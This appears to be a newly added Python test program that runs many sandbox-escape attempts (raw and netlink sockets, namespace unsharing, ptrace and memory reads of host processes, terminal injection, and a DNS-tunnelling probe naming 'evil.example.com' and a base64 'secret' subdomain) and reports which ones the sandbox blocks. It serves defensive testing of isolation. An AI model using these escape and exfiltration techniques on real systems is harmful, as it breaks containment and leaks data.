@@ -1,0 +1,423 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""What somebody tries who is in a sandbox and wants to be out of it.
+
+Run inside, as a program: each attempt in a process of its own, so that none
+spoils the next.  Prints one JSON object: attempt, and what came of it: the word
+`done`, the name of an errno, or what the attempt itself says.
+"""
+
+import ctypes
+import errno
+import fcntl
+import json
+import os
+import socket
+import struct
+import subprocess
+import sys
+import time
+
+HERE = {}  # what there is outside: argv[1]
+WEB4, WEB6 = "203.0.113.80", "2001:db8:f::80"
+
+CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
+SYS = {
+    "x86_64": {"clone": 56, "clone3": 435, "unshare": 272, "setns": 308,
+               "io_uring": 425, "keyctl": 250, "request_key": 249, "ptrace": 101,
+               "process_vm_readv": 310, "bpf": 321},
+    "aarch64": {"clone": 220, "clone3": 435, "unshare": 97, "setns": 268,
+                "io_uring": 425, "keyctl": 219, "request_key": 218, "ptrace": 117,
+                "process_vm_readv": 270, "bpf": 280},
+}[os.uname().machine]  # fmt: skip
+TIOCSTI = 0x5412
+libc = ctypes.CDLL(None, use_errno=True)
+ATTEMPTS = {}
+
+
+def attempt(call):
+    ATTEMPTS[call.__name__] = call
+    return call
+
+
+def kernel(name: str, *args) -> int:
+    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
+    found = libc.syscall(ctypes.c_long(SYS[name]), *wide)
+    if found < 0:
+        raise OSError(ctypes.get_errno(), name)
+    return found
+
+
+# Sockets of other kinds.
+
+
+@attempt
+def raw_ip():
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+
+@attempt
+def raw_icmp():
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+
+
+@attempt
+def ping_socket():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+
+
+@attempt
+def packets():
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+
+
+@attempt
+def vsock():
+    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
+
+
+@attempt
+def sctp():
+    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
+
+
+@attempt
+def sctp_messages():
+    socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132)
+
+
+@attempt
+def dccp():
+    socket.socket(socket.AF_INET, 6, 33)
+
+
+@attempt
+def udp_lite():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
+
+
+@attempt
+def ciphers_of_the_kernel():
+    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
+
+
+@attempt
+def family_in_the_upper_half():
+    """The kernel takes the lower 32 bits of it, and so must the filter."""
+    libc.socket.argtypes = [ctypes.c_uint64, ctypes.c_uint64, ctypes.c_uint64]
+    if libc.socket((1 << 32) | socket.AF_PACKET, socket.SOCK_RAW, 0) < 0:
+        raise OSError(ctypes.get_errno(), "socket")
+
+
+@attempt
+def unix_of_a_path():
+    socket.socket(socket.AF_UNIX).connect(HERE["unix"])
+
+
+@attempt
+def unix_of_no_path():
+    socket.socket(socket.AF_UNIX).connect("\0" + HERE["abstract"])
+
+
+@attempt
+def unix_datagram_of_a_pair():
+    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    one.sendto(b"out", HERE["unix_datagrams"])
+
+
+@attempt
+def unix_stream_of_a_pair_elsewhere():
+    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    one.connect(HERE["unix"])
+
+
+@attempt
+def nftables():
+    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
+
+
+@attempt
+def io_uring():
+    kernel("io_uring", 8, ctypes.create_string_buffer(120))
+
+
+# Namespaces.
+
+
+@attempt
+def another_user_namespace():
+    kernel("unshare", CLONE_NEWUSER)
+
+
+@attempt
+def another_network():
+    kernel("unshare", CLONE_NEWUSER | CLONE_NEWNET)
+
+
+@attempt
+def a_child_in_another_network():
+    kernel("clone", CLONE_NEWUSER | CLONE_NEWNET | 17, 0, 0, 0, 0)
+
+
+@attempt
+def a_child_by_clone3():
+    kernel("clone3", struct.pack("<8Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0), 64)
+
+
+@attempt
+def the_keeper_s_network():
+    os.open("/proc/1/ns/net", os.O_RDONLY)
+
+
+@attempt
+def a_network_with_a_name():
+    kernel("setns", os.open(HERE["netns"], os.O_RDONLY), CLONE_NEWNET)
+
+
+# Other processes.
+
+
+@attempt
+def a_signal_to_the_proxy():
+    os.kill(HERE["host_pid"], 9)
+
+
+@attempt
+def the_host_s_processes_in_proc():
+    os.stat(f"/proc/{HERE['host_pid']}")
+
+
+@attempt
+def ptrace_of_the_host():
+    kernel("ptrace", 0x4206, HERE["host_pid"], 0, 0)  # PTRACE_SEIZE
+
+
+@attempt
+def memory_of_the_host():
+    room = ctypes.create_string_buffer(8)
+    mine = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(room), 8))
+    its = ctypes.create_string_buffer(struct.pack("PN", 0x1000, 8))
+    kernel("process_vm_readv", HERE["host_pid"], mine, 1, its, 1, 0)
+
+
+@attempt
+def memory_of_the_keeper():
+    os.open("/proc/1/mem", os.O_RDWR)
+
+
+@attempt
+def ptrace_of_the_keeper():
+    kernel("ptrace", 0x4206, 1, 0, 0)
+
+
+@attempt
+def descriptors_of_the_keeper():
+    os.listdir("/proc/1/fd")
+
+
+@attempt
+def a_descriptor_that_was_open():
+    os.fstat(HERE["descriptor"])
+
+
+@attempt
+def words_for_the_terminal():
+    master, slave = os.openpty()
+    fcntl.ioctl(slave, TIOCSTI, b"x")
+
+
+@attempt
+def a_key_that_the_host_resolves():
+    kernel("request_key", b"dns_resolver", b"evil.example.com", b"", 0)
+
+
+@attempt
+def programs_for_the_kernel():
+    kernel("bpf", 0, ctypes.create_string_buffer(120), 120)
+
+
+@attempt
+def a_program_of_root():
+    done = subprocess.run([HERE["setuid"], "-u"], capture_output=True, text=True)
+    return "uid " + done.stdout.strip()
+
+
+# Its network.
+
+
+def netlink(kind: int, body: bytes) -> None:
+    """One request to rtnetlink; OSError with what the kernel says to it."""
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
+        route.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
+        answer = route.recv(4096)
+    (error,) = struct.unpack_from("=i", answer, 16)
+    if error:
+        raise OSError(-error, "netlink")
+
+
+@attempt
+def take_the_interface_down():
+    netlink(16, struct.pack("=BxHiII", 0, 0, 1, 0, 1))
+
+
+@attempt
+def give_it_an_address():
+    body = struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, b"\n\0\0\4")
+    netlink(20, body)
+
+
+@attempt
+def another_route():
+    netlink(24, struct.pack("=8BI", 2, 0, 0, 0, 254, 4, 0, 1, 0))
+
+
+@attempt
+def a_tunnel_device():
+    device = os.open("/dev/net/tun", os.O_RDWR)
+    fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"tun0", 0x1001))
+
+
+def timed(call):
+    """The errno, and that it came at once."""
+    began = time.monotonic()
+    try:
+        call()
+    except OSError as error:
+        late = "" if time.monotonic() - began < 1 else " late"
+        return errno.errorcode.get(error.errno, repr(error)) + late
+    return "done"
+
+
+def send_udp(family, address, port):
+    def send():
+        with socket.socket(family, socket.SOCK_DGRAM) as out:
+            out.settimeout(3)
+            out.connect((address, port))
+            out.send(b"out")
+            out.recv(1)
+
+    return timed(send)
+
+
+@attempt
+def udp():
+    return send_udp(socket.AF_INET, WEB4, 443)
+
+
+@attempt
+def udp_over_ipv6():
+    return send_udp(socket.AF_INET6, WEB6, 443)
+
+
+def judge(answer: bytes) -> None:
+    if b" 403 " in answer:
+        raise OSError(errno.EACCES, "refused")
+    if not answer:
+        raise OSError(errno.ECONNRESET, "ended")
+
+
+def tcp(family, address, port, source=None):
+    def ask():
+        with socket.socket(family, socket.SOCK_STREAM) as out:
+            out.settimeout(5)
+            if source:
+                out.bind((source, 0))
+            out.connect((address, port))
+            out.send(b"GET / HTTP/1.0\r\n\r\n")
+            judge(out.recv(100))
+
+    return timed(ask)
+
+
+@attempt
+def an_address_of_ipv4():
+    return tcp(socket.AF_INET, WEB4, 80)
+
+
+@attempt
+def an_address_of_ipv6():
+    return tcp(socket.AF_INET6, WEB6, 80)
+
+
+@attempt
+def an_address_of_ipv4_in_ipv6():
+    return tcp(socket.AF_INET6, "::ffff:" + WEB4, 80)
+
+
+@attempt
+def another_source():
+    """The policy lets somebody else do what it likes: all addresses are local."""
+    return tcp(socket.AF_INET, WEB4, 80, source="10.0.0.4")
+
+
+@attempt
+def the_proxy_s_own_listener():
+    return tcp(socket.AF_INET, "127.0.0.1", 26472)
+
+
+@attempt
+def loopback_of_the_host():
+    return tcp(socket.AF_INET, "127.0.0.1", HERE["loopback"])
+
+
+@attempt
+def the_host_by_its_address():
+    return tcp(socket.AF_INET, HERE["own"], HERE["loopback"])
+
+
+@attempt
+def an_alias_of_nobody():
+    return tcp(socket.AF_INET, "198.18.200.200", 80)
+
+
+@attempt
+def an_alias_behind_all():
+    return tcp(socket.AF_INET, "198.19.255.255", 80)
+
+
+@attempt
+def fast_open():
+    """Data in the very first packet."""
+
+    def ask():
+        with socket.socket() as out:
+            out.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (WEB4, 80))
+            judge(out.recv(100))
+
+    return timed(ask)
+
+
+@attempt
+def words_in_names():
+    """What is asked for is the message."""
+    try:
+        socket.getaddrinfo("c2VjcmV0.tunnel.example.com", 53)
+    except socket.gaierror as error:
+        return error.strerror
+    return "done"
+
+
+def out_of_this(call) -> str:
+    try:
+        return call() or "done"
+    except OSError as error:
+        return errno.errorcode.get(error.errno, repr(error))
+    except BaseException as error:
+        return repr(error)
+
+
+def apart(call) -> str:
+    """In a child."""
+    read, write = os.pipe()
+    if os.fork() == 0:
+        os.write(write, out_of_this(call).encode())
+        os._exit(0)
+    os.close(write)
+    with open(read) as answer:
+        said = answer.read()
+    os.wait()
+    return said
+
+
+if __name__ == "__main__":
+    HERE |= json.loads(sys.argv[1])
+    print(json.dumps({name: apart(call) for name, call in ATTEMPTS.items()}))
